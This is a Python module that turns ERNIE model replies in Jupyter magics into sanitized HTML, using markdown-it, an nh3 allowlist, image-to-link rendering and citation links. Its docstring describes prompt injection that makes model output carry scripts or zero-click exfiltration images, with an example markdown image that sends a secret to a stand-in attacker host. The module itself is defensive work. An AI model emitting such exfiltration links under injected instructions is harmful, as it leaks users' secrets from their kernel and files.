"""Kernel-side rendering of model output for the magics: markdown → sanitized HTML, MIME bundles.

This is a security boundary. JupyterLab trusts outputs created in the session, so any HTML we
emit runs with access to the user's kernel and files (docs/notebook-facts.md §9.1). Model text is
untrusted: a prompt injection can make it emit ``<script>``, ``javascript:`` links or zero-click
exfiltration images (``![x](https://attacker/p.png?q=<secret>)``). Hence two layers:

1. markdown-it-py with the ``js-default`` preset: raw HTML is escaped, unsafe link schemes are
   refused; images become plain links (never ``<img>``), reference definitions are off.
2. nh3 (ammonia) with an allowlist: no script/style/iframe/svg/math/img/form, no ``on*`` or
   ``style`` attributes, URLs only http/https/mailto or ``#fragment``, ``rel=noopener`` links.

Emphasis follows the CJK-friendly rule (``这是**重要的。**后文`` is bold, §9.4). Math is left as
escaped TeX with its delimiters inside ``.ernie-math`` elements; JupyterLab's MathJax (run with
its SafeHandler) typesets it, other front ends show the source.

Web sources (``--search``): ERNIE's citation markers ``^[1]^`` / ``^[1][3]^`` in text become superscript
links to the answer's sources, and :func:`sources_html` lists them under it. Titles and URLs are data:
escaped text, and links only to absolute http(s) URLs with a host.
"""

from __future__ import annotations

import functools
import html
import json
import re
from typing import Any
from urllib.parse import urlsplit

import nh3
from markdown_it import MarkdownIt, rules_core
from markdown_it.common.utils import escapeHtml
from markdown_it.rules_core import StateCore
from markdown_it.token import Token
from mdit_py_cjk_friendly import cjk_friendly

from .markdown_guards import guard_links, inline_budget, line_budget, linear_joins
from .markdown_math import math_html, math_plugin

__all__ = [
    "FORMATS",
    "HIGHLIGHT_CSS",
    "bundle",
    "extract_code",
    "extract_code_blocks",
    "is_web_url",
    "render_code",
    "render_html",
    "render_markdown",
    "sanitize",
    "sources_html",
    "sources_plain",
    "to_plain",
]

#: Output formats understood by :func:`bundle` (``md`` is accepted as an alias of ``markdown``).
FORMATS = ("markdown", "text", "code", "json", "html", "math")

# ---------------------------------------------------------------------------------------------------
# Sanitizer policy

_TAGS = {
    "a", "abbr", "b", "bdi", "blockquote", "br", "caption", "code", "dd", "del", "details", "div", "dl",
    "dt", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "ins", "kbd", "li", "mark", "ol",
    "p", "pre", "q", "s", "samp", "small", "span", "strong", "sub", "summary", "sup", "table",
    "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul", "var",
}  # fmt: skip
# Dropped together with their content: what is inside them is code or markup, not prose.
_DROP_WITH_CONTENT = {
    "script", "style", "template", "noscript", "iframe", "object", "embed", "applet", "svg",
    "math", "textarea", "select", "title", "xmp", "noembed", "noframes", "frameset",
}  # fmt: skip
_ATTRIBUTES = {
    "a": {"href", "title", "class"},
    "abbr": {"title"},
    "ol": {"start"},
    "li": {"value"},
    "th": {"align", "colspan", "rowspan"},
    "td": {"align", "colspan", "rowspan"},
    "code": {"class"},
    "pre": {"class"},
    "div": {"class"},
    "span": {"class"},
}
# Classes are filtered too: an arbitrary class could borrow JupyterLab's own styling (jp-Dialog …)
# to dress model text up as UI. Ours are prefixed; pygments' are 1–3 letters plus a digit.
_CLASS_RULES = {
    "a": re.compile(r"ernie-[a-z0-9-]{1,40}"),
    "code": re.compile(r"language-[A-Za-z0-9_+#.-]{1,40}|ernie-math-source"),
    "pre": re.compile(r"ernie-[a-z0-9-]{1,40}|highlight"),
    # mathjax_process: MathJax typesets only our math elements (the output is mathjax_ignore), see bundle()
    "div": re.compile(r"ernie-[a-z0-9-]{1,40}|mathjax_process"),
    "span": re.compile(r"ernie-[a-z0-9-]{1,40}|[a-z]{1,3}[0-9]?|mathjax_process"),
}
_NUMERIC = re.compile(r"[0-9]{1,6}")
# absolute http(s) with a host: "http:hit" or "http:/logout" would resolve against the Jupyter page's own origin,
# and one click would reach the server's endpoints
_WEB_URL = r"https?://[^\s/\\?#@]+(?:[/?#]|$)"
_SAFE_HREF = re.compile(rf"(?:{_WEB_URL}|mailto:\S|#)", re.IGNORECASE)


def is_web_url(url: str) -> bool:
    """Whether a link may point at `url`: an absolute http(s) URL with a host (a source's URL must be one)."""
    return re.match(_WEB_URL, url.strip(), re.IGNORECASE) is not None


def _filter_attribute(tag: str, attr: str, value: str) -> str | None:
    if attr == "class":
        rule = _CLASS_RULES.get(tag)
        kept = [c for c in value.split() if rule is not None and rule.fullmatch(c)]
        return " ".join(kept) or None
    if attr == "align":
        return value.lower() if value.lower() in ("left", "center", "right") else None
    if attr in ("start", "value", "colspan", "rowspan"):
        return value if _NUMERIC.fullmatch(value) else None
    if attr == "href":
        return value if _SAFE_HREF.match(value.strip()) else None
    return value


def _relative_url(url: str) -> str | None:
    # Only in-page fragments; "/api/…" or "../files" would point at the Jupyter server itself.
    return url if url.startswith("#") else None


@functools.cache
def _cleaner() -> nh3.Cleaner:
    return nh3.Cleaner(
        tags=_TAGS,
        clean_content_tags=_DROP_WITH_CONTENT,
        attributes=_ATTRIBUTES,
        attribute_filter=_filter_attribute,
        url_schemes={"http", "https", "mailto"},
        url_relative=_relative_url,
        link_rel="noopener noreferrer nofollow",
        set_tag_attribute_values={"a": {"target": "_blank"}},
        strip_comments=True,
    )


def sanitize(fragment: str) -> str:
    """Sanitize an HTML fragment with the output allowlist policy (see the module docstring)."""
    return _cleaner().clean(fragment)


# ---------------------------------------------------------------------------------------------------
# Markdown parser

_SAFE_IMAGE_URL = re.compile(r"https?://", re.IGNORECASE)
def _render_image(self: Any, tokens: list[Token], idx: int, options: Any, env: Any) -> str:
    """Never ``<img>``: a remote image loads with zero clicks and can carry data out in its URL."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = self.renderInlineAsText(token.children or [], options, env)
    label = escapeHtml("🖼 " + (alt or "image"))
    inside_link = (
        sum(1 if t.type == "link_open" else -1 if t.type == "link_close" else 0 for t in tokens[:idx]) > 0
    )
    if _SAFE_IMAGE_URL.match(src) and not inside_link:
        return f'<a href="{escapeHtml(src)}" class="ernie-image-link">{label}</a>'
    return f'<span class="ernie-image-blocked">{label}</span>'


#: code that one render highlights, in characters (and 40 per block): pygments takes ~5 µs a character, so 100 k
#: characters of Python took 0.56 s, 5,000 small blocks 1.35 s. A 100 KB real answer highlights ~18,000; past the
#: budget a block is shown as plain escaped code.
HIGHLIGHT_BUDGET = 24_000


def _render_fence(self: Any, tokens: list[Token], idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    language = _language(token.info)
    highlight = bool(env.get("ernie_highlight", True)) if isinstance(env, dict) else True
    if highlight and language and isinstance(env, dict):
        left, cost = int(env.get("ernie_highlight_left", HIGHLIGHT_BUDGET)), len(token.content) + 40
        highlight = cost <= left
        env["ernie_highlight_left"] = left - cost if highlight else left
    return _code_html(token.content, language, highlight=highlight) + "\n"


def _render_link_open(self: Any, tokens: list[Token], idx: int, options: Any, env: Any) -> str:
    # The link's text in <bdi>: a bidi override in it (U+202E "gpj.exe") reverses only the link, not the paragraph
    return self.renderToken(tokens, idx, options, env) + "<bdi>"


def _render_link_close(self: Any, tokens: list[Token], idx: int, options: Any, env: Any) -> str:
    return "</bdi>" + self.renderToken(tokens, idx, options, env)


def _render_code_inline(self: Any, tokens: list[Token], idx: int, options: Any, env: Any) -> str:
    return f"<bdi><code>{escapeHtml(tokens[idx].content)}</code></bdi>"


def _render_cell_open(self: Any, tokens: list[Token], idx: int, options: Any, env: Any) -> str:
    # markdown-it writes style="text-align:…"; style attributes are not allowed, `align` still works.
    token = tokens[idx]
    style = str(token.attrGet("style") or "")
    align = style.removeprefix("text-align:")
    attr = f' align="{align}"' if align in ("left", "center", "right") else ""
    return f"<{token.tag}{attr}>"


_CITATION = re.compile(r"\^((?:\[[0-9]{1,3}\]){1,9})\^")


def _citations(state: StateCore) -> None:
    """ERNIE's citation markers in text become `ernie_cite` tokens. Only text tokens outside links: code, math
    and link targets are other tokens, so a marker there stays as written (the widget does the same)."""
    for block in state.tokens:
        if block.type != "inline" or not block.children or "^[" not in block.content:
            continue
        children: list[Token] = []
        in_link = 0
        for token in block.children:
            in_link += {"link_open": 1, "link_close": -1}.get(token.type, 0)
            if token.type != "text" or in_link or not _CITATION.search(token.content):
                children.append(token)
                continue
            pos = 0
            for m in _CITATION.finditer(token.content):
                if m.start() > pos:
                    children.append(Token("text", "", 0, content=token.content[pos:m.start()]))
                refs = [int(n) for n in re.findall(r"[0-9]+", m.group(1))]
                children.append(Token("ernie_cite", "", 0, content=m.group(0), meta={"refs": refs}))
                pos = m.end()
            if pos < len(token.content):
                children.append(Token("text", "", 0, content=token.content[pos:]))
        block.children = children


def _render_cite(self: Any, tokens: list[Token], idx: int, options: Any, env: Any) -> str:
    """`[n]` links to source n in a superscript; a marker with no source to link stays plain text."""
    token = tokens[idx]
    sources = (env.get("ernie_sources") or {}) if isinstance(env, dict) else {}
    parts, linked = [], False
    for n in token.meta["refs"]:
        source = sources.get(n)
        if source is not None and is_web_url(source["url"]):
            title = escapeHtml(source["title"] or source["url"])
            parts.append(f'<a href="{escapeHtml(source["url"])}" class="ernie-cite" title="{title}">[{n}]</a>')
            linked = True
        else:
            parts.append(f"[{n}]")
    return f"<sup>{''.join(parts)}</sup>" if linked else escapeHtml(token.content)


@functools.cache
def _markdown() -> MarkdownIt:
    md = MarkdownIt("js-default").use(cjk_friendly)
    md.enable("table")
    # Reference definitions ([id]: url) are invisible in the source a user skims; a model could hide
    # a link target there. Off: such lines simply stay text.
    md.disable("reference")
    md.use(math_plugin)
    md.use(guard_links)  # linear on text made of brackets (markdown_guards.py)
    md.use(linear_joins)  # and on text made of emphasis delimiters or escapes
    md.use(inline_budget)  # past a budget of inline markup per render, paragraphs are their text
    md.use(line_budget)  # past a budget of lines, the rest is
    md.core.ruler.push("ernie_citations", _citations)
    md.add_render_rule("ernie_cite", _render_cite)
    md.add_render_rule("image", _render_image)
    md.add_render_rule("link_open", _render_link_open)
    md.add_render_rule("link_close", _render_link_close)
    md.add_render_rule("code_inline", _render_code_inline)
    md.add_render_rule("fence", _render_fence)
    md.add_render_rule("th_open", _render_cell_open)
    md.add_render_rule("td_open", _render_cell_open)
    return md


def render_markdown(text: str, *, highlight: bool = True, sources: list[dict[str, Any]] | None = None) -> str:
    """Render model markdown to sanitized HTML (no wrapper element).

    ``highlight=False`` skips pygments for fenced code (cheaper while a reply is still streaming).
    ``sources`` (`protocol.web_sources`) turns the citation markers that name one into links to it.
    """
    env = {"ernie_highlight": highlight, "ernie_sources": {s["index"]: s for s in sources or ()}}
    rendered = _markdown().render(limit_nesting(text or ""), env)
    return sanitize(rendered)


def _host(url: str) -> str:
    try:
        return urlsplit(url.strip()).hostname or ""
    except ValueError:  # "http://[oops" and the like
        return ""


def sources_html(sources: list[dict[str, Any]] | None) -> str:
    """The numbered list of an answer's web sources (title, host), sanitized; "" without sources.

    Titles and URLs come from the web: escaped text in `<bdi>` (a bidi control in a title cannot reorder the
    host after it), and a link only to an absolute http(s) URL with a host. Nothing of a source is loaded.
    """
    items = []
    for s in sources or ():
        url, n = s["url"], int(s["index"])
        host = _host(url) if is_web_url(url) else ""
        label = f"<bdi>{escapeHtml(s['title'] or host or url)}</bdi>"
        if host:
            label = (f'<a href="{escapeHtml(url)}" class="ernie-source">{label}</a> '
                     f'<span class="ernie-source-host"><bdi>{escapeHtml(host)}</bdi></span>')
        items.append(f'<li value="{n}">{label}</li>')
    if not items:
        return ""
    return sanitize('<div class="ernie-sources"><div class="ernie-sources-title">来源 / Sources</div>'
                    f'<ol>{"".join(items)}</ol></div>')


def sources_plain(sources: list[dict[str, Any]] | None) -> str:
    """The sources as text, for front ends without HTML: ``[n] title — url`` per line; "" without sources."""
    lines = [f"[{s['index']}] {s['title'] or s['url']}" + (f" — {s['url']}" if s["title"] and s["url"] else "")
             for s in sources or ()]
    return "来源 / Sources:\n" + "\n".join(lines) if lines else ""


#: container markers (bullets, ordered-list numbers, ">") one line may open; the rest are escaped as text
MAX_LINE_NESTING = 24
_MARKERS = re.compile(r"^(?:[ \t]*(?:[-*+>]|\d{1,9}[.)])(?=[ \t]|$))+", re.MULTILINE)
_ONE_MARKER = re.compile(r"[ \t]*(?:[-*+>]|\d{1,9}[.)])(?=[ \t]|$)")


def limit_nesting(text: str) -> str:
    """Show a line with more than MAX_LINE_NESTING container markers as text (its first marker escaped): past
    markdown-it's nesting limit (fifty "- " on a line) the parser stopped and the rest of the answer vanished without a
    sign. Line-local, like the widget's."""

    def fix(match: re.Match[str]) -> str:
        markers = _ONE_MARKER.findall(match.group(0))
        if len(markers) <= MAX_LINE_NESTING:
            return match.group(0)
        # the whole line is text (its first marker escaped): 24 nested lists per line made 100 k characters of such
        # lines cost seconds per render, and no real answer nests a line that deep (as the widget's limitNesting)
        return re.sub(r"([-*+>.)])$", r"\\\1", markers[0]) + "".join(markers[1:])

    return _MARKERS.sub(fix, text)


# ---------------------------------------------------------------------------------------------------
# Code

_LANGUAGE = re.compile(r"[A-Za-z0-9_+#.-]{1,40}")
_MAX_HIGHLIGHT_CHARS = HIGHLIGHT_BUDGET  # one block (`-f code`, `-f json`) too: pygments takes ~5 µs a character


def _language(info: str | None) -> str | None:
    """The language name of a fence info string (```` ```python title="x" ````, ```` ```{python} ````)."""
    if not info:
        return None
    word = info.strip().split(maxsplit=1)[0] if info.strip() else ""
    word = word.strip("{}").lstrip(".")
    match = _LANGUAGE.match(word)
    return match.group(0) if match else None


@functools.lru_cache(maxsize=64)
def _lexer(language: str) -> tuple[Any, Any, Any] | None:
    """Pygments' (highlight, lexer, formatter) for `language`, made once: looking a lexer up cost ~0.2 ms per block."""
    try:
        from pygments import highlight
        from pygments.formatters import HtmlFormatter
        from pygments.lexers import get_lexer_by_name
        from pygments.util import ClassNotFound
    except ImportError:  # pygments ships with IPython, but the renderer must not depend on it
        return None
    try:
        lexer = get_lexer_by_name(language, stripnl=False, ensurenl=False)
    except ClassNotFound:
        return None
    return highlight, lexer, HtmlFormatter(nowrap=True)


def _highlight(code: str, language: str | None) -> str | None:
    """Pygments HTML (class spans only, text escaped) or None when no lexer fits."""
    if not language or len(code) > _MAX_HIGHLIGHT_CHARS:
        return None
    found = _lexer(language)
    if found is None:
        return None
    highlight, lexer, formatter = found
    out = str(highlight(code, lexer, formatter))
    # The formatter ends every line, the last one too; keep the code's own ending.
    return out[:-1] if out.endswith("\n") and not code.endswith("\n") else out


def _code_html(code: str, language: str | None, *, highlight: bool = True) -> str:
    body = _highlight(code, language) if highlight else None
    pre_class = "ernie-code highlight" if body is not None else "ernie-code"
    code_class = f' class="language-{language}"' if language else ""
    return f'<pre class="{pre_class}"><code{code_class}>{body if body is not None else escapeHtml(code)}</code></pre>'


def render_code(code: str, language: str | None, *, highlight: bool = True) -> str:
    """An escaped ``<pre><code class="language-…">`` block, highlighted with pygments when possible.

    Highlighting uses pygments' short classes under ``pre.highlight``; JupyterLab does not style
    those, so :func:`bundle` adds :data:`HIGHLIGHT_CSS` (scoped to ``.ernie-output``).
    """
    return sanitize(_code_html(code or "", _language(language), highlight=highlight))


# Pygments classes → JupyterLab's editor colour variables, so highlighting follows the theme.
_TOKEN_COLOURS = {
    "keyword": ("k", "kc", "kd", "kn", "kp", "kr", "kt", "ow"),
    "string": ("s", "s1", "s2", "sa", "sb", "sc", "sd", "se", "sh", "si", "sx", "sr", "ss", "dl"),
    "comment": ("c", "c1", "ch", "cm", "cp", "cpf", "cs"),
    "number": ("m", "mb", "mf", "mh", "mi", "mo", "il"),
    "operator": ("o",),
    "builtin": ("nb", "bp"),
    "def": ("nf", "fm", "nc", "nn"),
    "variable": ("nv", "vc", "vg", "vi", "vm"),
    "meta": ("nd",),
    "tag": ("nt",),
    "attribute": ("na",),
    "punctuation": ("p",),
    "error": ("err",),
}
#: Scoped stylesheet for highlighted code; only ever applies inside ``.ernie-output``.
HIGHLIGHT_CSS = (
    "".join(
        f".ernie-output pre.highlight :is({','.join('.' + c for c in classes)})"
        f"{{color:var(--jp-mirror-editor-{name}-color)}}"
        for name, classes in _TOKEN_COLOURS.items()
    )
    + ".ernie-output pre.highlight :is(.c,.c1,.cm){font-style:italic}"
)



def extract_code_blocks(markdown: str) -> list[tuple[str | None, str]]:
    """Fenced code blocks in order as ``(language, code)``, from the same parser the renderer uses.

    An unclosed final fence (a reply still streaming) yields the code written so far.
    """
    # the block rules only: fences are blocks, and the inline parse of everything else was most of the cost
    state = StateCore(markdown or "", _markdown(), {})
    rules_core.normalize(state)
    rules_core.block(state)
    return [(_language(t.info), t.content) for t in state.tokens if t.type == "fence"]


def looks_like_prose(text: str) -> bool:
    """Whether unfenced text under ``-f code`` reads as sentences rather than code: it does not compile as Python
    and most of its lines end like sentences or hold CJK text."""
    import ast

    try:
        ast.parse(text)
        return False
    except (SyntaxError, ValueError):
        pass
    lines = [line.strip() for line in text.splitlines() if line.strip()]
    sentence = [line for line in lines if line.endswith((".", "。", "!", "！", "?", "？", ":", "：", "，", ","))
                or re.search(r"[\u4e00-\u9fff]", line)]
    return bool(lines) and len(sentence) * 2 >= len(lines)


def extract_code(markdown: str, blocks: list[tuple[str | None, str]] | None = None) -> str:
    """The code for ``-f code``: fenced blocks joined by blank lines, or the whole text if it has no fence.
    ``blocks``: the text's `extract_code_blocks`, if already at hand."""
    blocks = extract_code_blocks(markdown) if blocks is None else blocks
    if not blocks:
        return (markdown or "").strip()
    return "\n\n".join(code.rstrip("\n") for _, code in blocks)


# ---------------------------------------------------------------------------------------------------
# Other formats and the MIME bundle


def render_html(text: str, trusted: bool) -> str:
    """``-f html``: untrusted → the source shown as code; trusted → sanitized (scripts never run)."""
    if not trusted:
        return render_code(text, "html")
    return sanitize(text or "")


def to_plain(text: str) -> str:
    """The ``text/plain`` fallback: the model text itself, unchanged."""
    return text


def _latex_source(text: str) -> str:
    """The TeX of a ``-f math`` reply, with display delimiters added if the model left them out."""
    blocks = extract_code_blocks(text)
    tex = (blocks[0][1] if blocks else text).strip()
    if not tex.startswith(("$", "\\[", "\\(", "\\begin")):
        tex = f"$$\n{tex}\n$$"
    return tex


def _json_reply(text: str) -> tuple[str, str | None]:
    """Pretty JSON when the reply (or its first fenced block) parses; otherwise the text as is."""
    candidates = [text]
    blocks = extract_code_blocks(text)
    if blocks:
        candidates.append(blocks[0][1])
    for candidate in candidates:
        try:
            value = json.loads(candidate)
        except ValueError:
            continue
        return json.dumps(value, indent=2, ensure_ascii=False), "json"
    return text, None


def bundle(text: str, fmt: str, *, trust_html: bool = False, streaming: bool = False,
           sources: list[dict[str, Any]] | None = None, rendered: str | None = None) -> dict[str, str]:
    """A MIME bundle ``{"text/html", "text/plain"[, "text/latex"]}`` for one magic output.

    ``fmt`` is one of :data:`FORMATS` (or ``md``). ``streaming=True`` marks a partial reply: no
    syntax highlighting (it is re-rendered on every update) and an ``ernie-streaming`` class.
    ``sources`` (web search) are listed under a markdown or text answer, and its citation markers link to them.
    ``rendered``: a markdown answer's HTML already rendered (a streaming update, `render_stream.StreamRenderer`).
    """
    fmt = "markdown" if fmt == "md" else fmt
    text = text or ""
    highlight = not streaming
    plain = to_plain(text)
    data: dict[str, str] = {}
    if fmt == "markdown":
        body = rendered if rendered is not None else render_markdown(text, highlight=highlight, sources=sources)
        inner = body + sources_html(sources)
    elif fmt == "text":
        inner = f'<pre class="ernie-text">{html.escape(text, quote=False)}</pre>' + sources_html(sources)
    elif fmt == "code":
        blocks = extract_code_blocks(text)
        plain = extract_code(text, blocks)
        inner = render_code(plain, blocks[0][0] if blocks else None, highlight=highlight)
    elif fmt == "json":
        plain, language = _json_reply(text)
        inner = render_code(plain, language, highlight=highlight)
    elif fmt == "html":
        inner = render_html(text, trust_html)
    elif fmt == "math":
        tex = _latex_source(text)
        # A div, not a <pre>: JupyterLab's MathJax skips <pre> but typesets this (safely, with its
        # SafeHandler); elsewhere the escaped TeX shows as text.
        inner = math_html(tex, display=True)
        if "<" not in tex and ">" not in tex:
            data["text/latex"] = tex
    else:
        raise ValueError(f"unknown output format {fmt!r}; expected one of {', '.join(FORMATS)}")
    # mathjax_ignore: JupyterLab's MathJax typesets only our math elements (mathjax_process), never a "$…$" that the
    # renderer left as text (in a link, past the search bound) — only math the layout filter has seen is typeset
    classes = f"ernie-output ernie-{fmt} mathjax_ignore" + (" ernie-streaming" if streaming else "")
    style = f"<style>{HIGHLIGHT_CSS}</style>" if 'class="ernie-code highlight"' in inner else ""
    data["text/html"] = f'<div class="{classes}">{style}{inner}</div>'
    data["text/plain"] = plain + (f"\n\n{sources_plain(sources)}" if sources and fmt in ("markdown", "text") else "")
    return data
